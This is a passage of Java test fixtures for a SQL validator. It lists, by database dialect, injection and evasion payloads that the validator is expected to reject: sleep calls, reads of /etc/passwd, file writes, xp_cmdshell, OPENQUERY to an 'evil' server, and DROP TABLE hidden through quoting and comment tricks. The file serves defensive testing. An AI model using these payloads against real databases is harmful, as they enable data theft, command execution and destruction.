    add(c, POSTGRESQL, "denied-function", "SELECT * FROM customer c JOIN orders o ON o.customer_id = c.id AND pg_sleep(1) IS NULL");
    add(c, POSTGRESQL, "denied-function", "SELECT * FROM customer, LATERAL (SELECT pg_sleep(1)) x");
    add(c, POSTGRESQL, "denied-function", "SELECT * FROM customer LIMIT (SELECT count(*) FROM pg_ls_dir('/'))");
    add(c, POSTGRESQL, "denied-function", "SELECT CAST(pg_read_file('/etc/passwd') AS text)");
    add(c, POSTGRESQL, "denied-function", "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM customer");
    add(c, POSTGRESQL, "denied-function", "SELECT DISTINCT ON (pg_sleep(1)) * FROM customer");
    add(c, POSTGRESQL, "denied-function", "SELECT id FROM customer UNION SELECT 1 FROM pg_sleep(1)");
    add(c, POSTGRESQL, "denied-function", "WITH x AS (SELECT pg_sleep(1)) SELECT * FROM x");
    add(c, POSTGRESQL, "denied-function", "SELECT ARRAY[pg_sleep(1)]");
    add(c, POSTGRESQL, "denied-function", "SELECT 'a' || pg_read_file('/etc/passwd')");
    add(c, POSTGRESQL, "denied-function", "SELECT json_build_object('f', pg_read_file('/etc/passwd'))");
    add(c, POSTGRESQL, "denied-function", "SELECT (((pg_sleep(1))))");
    add(c, POSTGRESQL, "denied-function", "SELECT * FROM customer WHERE NOT EXISTS (SELECT 1 WHERE pg_sleep(1) IS NOT NULL)");
    add(c, MYSQL, "denied-function", "SELECT IF(id = 1, SLEEP(5), 0) FROM customer");
    add(c, MYSQL, "denied-function", "SELECT * FROM customer WHERE id IN (1, SLEEP(1))");
    add(c, MYSQL, "denied-function", "SELECT * FROM customer WHERE id BETWEEN 1 AND SLEEP(1)");
    add(c, MYSQL, "denied-function", "SELECT name FROM customer ORDER BY (SELECT BENCHMARK(1000000, SHA1('x')))");
    add(c, MARIADB, "denied-function", "SELECT name FROM customer ORDER BY IF(id > 0, SLEEP(1), 1)");
    add(c, MARIADB, "denied-function", "SELECT (SELECT LOAD_FILE('/etc/passwd')) AS f");
    add(c, SQLITE, "denied-function", "SELECT CASE WHEN 1 THEN readfile('/etc/passwd') END");
    add(c, SQLITE, "denied-function", "SELECT name FROM customer WHERE name IN (SELECT writefile('/tmp/x', name) FROM customer)");
    add(c, SQLITE, "denied-function", "SELECT sum(x) OVER (ORDER BY load_extension('x')) FROM (SELECT 1 AS x)");
    add(c, H2, "denied-function", "SELECT name FROM customer WHERE id = (SELECT COUNT(*) FROM CSVREAD('/etc/passwd'))");
    add(c, SQLSERVER, "denied-function", "SELECT IIF(1 = 1, (SELECT COUNT(*) FROM OPENQUERY(evil, 'SELECT 1')), 0)");
    add(c, ORACLE, "denied-function", "SELECT CASE WHEN 1 = 1 THEN DBMS_PIPE.RECEIVE_MESSAGE('a', 10) END FROM dual");

    c = Category.DISGUISED_NAME;
    add(c, POSTGRESQL, "denied-function", "SELECT \"pg_sleep\"(1)");
    add(c, POSTGRESQL, "denied-function", "SELECT \"PG_SLEEP\"(1)");
    add(c, POSTGRESQL, "denied-function", "SELECT PG_SLEEP(1)");
    add(c, POSTGRESQL, "denied-function", "SELECT Pg_SlEeP(1)");
    add(c, POSTGRESQL, "denied-function", "SELECT pg_catalog.pg_sleep(1)");
    add(c, POSTGRESQL, "denied-function", "SELECT \"pg_catalog\".\"pg_sleep\"(1)");
    add(c, POSTGRESQL, "denied-function", "SELECT pg_catalog . pg_read_file ('/etc/passwd')");
    add(c, POSTGRESQL, "denied-function", "SELECT pg_sleep/**/(1)");
    add(c, POSTGRESQL, "denied-function", "SELECT pg_sleep\n(1)");
    add(c, POSTGRESQL, "ambiguous-syntax", "SELECT U&\"pg_\\0073leep\"(1)");
    add(c, MYSQL, "denied-function", "SELECT `sleep`(5)");
    add(c, MYSQL, "denied-function", "SELECT `SLEEP`(5)");
    add(c, MYSQL, "denied-function", "SELECT SLEEP /* pause */ (5)");
    add(c, MARIADB, "denied-function", "SELECT Load_File('/etc/passwd')");
    add(c, MARIADB, "denied-function", "SELECT `benchmark`(1000000, MD5('x'))");
    add(c, SQLITE, "denied-function", "SELECT \"load_extension\"('x')");
    add(c, SQLITE, "denied-function", "SELECT [readfile]('/etc/passwd')");
    add(c, H2, "denied-function", "SELECT \"FILE_READ\"('/etc/passwd')");
    add(c, H2, "denied-function", "SELECT PUBLIC.CSVREAD('/etc/passwd')");
    add(c, SQLSERVER, "denied-function", "SELECT [xp_cmdshell]('dir')");
    add(c, SQLSERVER, "denied-function", "SELECT master.dbo.xp_cmdshell('dir')");
    add(c, SQLSERVER, "denied-function", "SELECT * FROM [OPENQUERY](evil, 'SELECT 1')");
    add(c, ORACLE, "denied-function", "SELECT \"DBMS_LOCK\".\"SLEEP\"(5) FROM dual");
    add(c, ORACLE, "denied-function", "SELECT sys.dbms_lock.sleep(5) FROM dual");
    add(c, ORACLE, "denied-function", "SELECT dbms_pipe . receive_message('a', 1) FROM dual");
    add(c, GENERIC, "denied-function", "SELECT \"NEXTVAL\"('s')");

    c = Category.PARSER_DIFFERENTIAL;
    add(c, POSTGRESQL, "ambiguous-syntax", "SELECT E'a\\' , x -- ' , pg_sleep(5)");
    add(c, POSTGRESQL, "ambiguous-syntax", "SELECT E'a\\' ; DROP TABLE customer; --' AS s");
    add(c, POSTGRESQL, "ambiguous-syntax", "SELECT 1 /* /* */ , ' */ , pg_sleep(5) --' AS s");
    add(c, POSTGRESQL, "ambiguous-syntax", "SELECT 1 /*/*/ , ' */ ; DROP TABLE customer --' AS s");
    add(c, POSTGRESQL, "ambiguous-syntax", "SELECT $q$ ' $q$ , pg_sleep(5) -- '");
    add(c, POSTGRESQL, "ambiguous-syntax", "SELECT $$ ' $$ ; DROP TABLE customer; -- '");
    add(c, POSTGRESQL, "ambiguous-syntax", "SELECT 1 -- x\r, pg_sleep(5)");
    add(c, POSTGRESQL, "ambiguous-syntax", "SELECT 1\u000b, pg_sleep(5)");
    add(c, POSTGRESQL, "ambiguous-syntax", "SELECT name FROM customer\u2028; DROP TABLE customer");
    add(c, MYSQL, "ambiguous-syntax", "SELECT 'a\\' , x -- ' , SLEEP(5) FROM customer");
    add(c, MYSQL, "ambiguous-syntax", "SELECT 'a\\\\' , x -- ' , SLEEP(5) FROM customer");
    add(c, MYSQL, "ambiguous-syntax", "SELECT \"a\\\" , x -- \" , SLEEP(5) FROM customer");
    add(c, MYSQL, "ambiguous-syntax", "SELECT 'a\\' ; DROP TABLE customer; -- ' AS s");
    add(c, MYSQL, "ambiguous-syntax", "SELECT 1 /*!50000 , SLEEP(5) */ FROM customer");
    add(c, MYSQL, "ambiguous-syntax", "SELECT name FROM customer /*! INTO OUTFILE '/tmp/x' */");
    add(c, MYSQL, "ambiguous-syntax", "SELECT id --(SLEEP(5))\nFROM customer");
    add(c, MYSQL, "ambiguous-syntax", "SELECT 1 # '\n, SLEEP(5) -- '");
    add(c, MARIADB, "ambiguous-syntax", "SELECT 1 /*M! , SLEEP(5) */");
    add(c, MARIADB, "ambiguous-syntax", "SELECT 1 /*!; DROP TABLE customer */");
    // with the attacker's own LIMIT, so that no row limit is added and the text runs as written
    add(c, MYSQL, "ambiguous-syntax", "SELECT 'a\\' , x -- ' , SLEEP(5) FROM customer\nLIMIT 1");
    add(c, MYSQL, "ambiguous-syntax", "SELECT 1 /*!50000 , SLEEP(5) */ FROM customer LIMIT 1");
    add(c, MARIADB, "ambiguous-syntax", "SELECT 1 /* /* */ , SLEEP(5) -- */\nLIMIT 1");
    add(c, MARIADB, "ambiguous-syntax", "SELECT 1 -- \r, 'x\n, SLEEP(5) -- '\nLIMIT 1");
    add(c, POSTGRESQL, "ambiguous-syntax", "SELECT E'a\\' , x -- ' , pg_sleep(5)\nLIMIT 1");
    add(c, SQLSERVER, "ambiguous-syntax", "SELECT 1 /* /* */ AS a, ' */ DROP TABLE customer --' AS b");
    add(c, SQLSERVER, "syntax", "SELECT [a]]; DROP TABLE customer --] FROM customer");
    add(c, SQLITE, "denied-function", "SELECT x[' ] , load_extension(char(47, 116, 109, 112)) -- ']\nFROM customer");
    add(c, H2, "ambiguous-syntax", "SELECT $$ ' $$ , FILE_READ('/etc/passwd') -- '");
    add(c, ORACLE, "ambiguous-syntax", "SELECT q'[ ' ]' , x -- ' FROM dual");
    add(c, ORACLE, "ambiguous-syntax", "SELECT nq'< ' >' || DBMS_LOCK.SLEEP(5) FROM dual");
    add(c, GENERIC, "syntax", "SELECT 'unterminated FROM customer");
    add(c, GENERIC, "syntax", "SELECT 1 /* unterminated comment");
  }
}
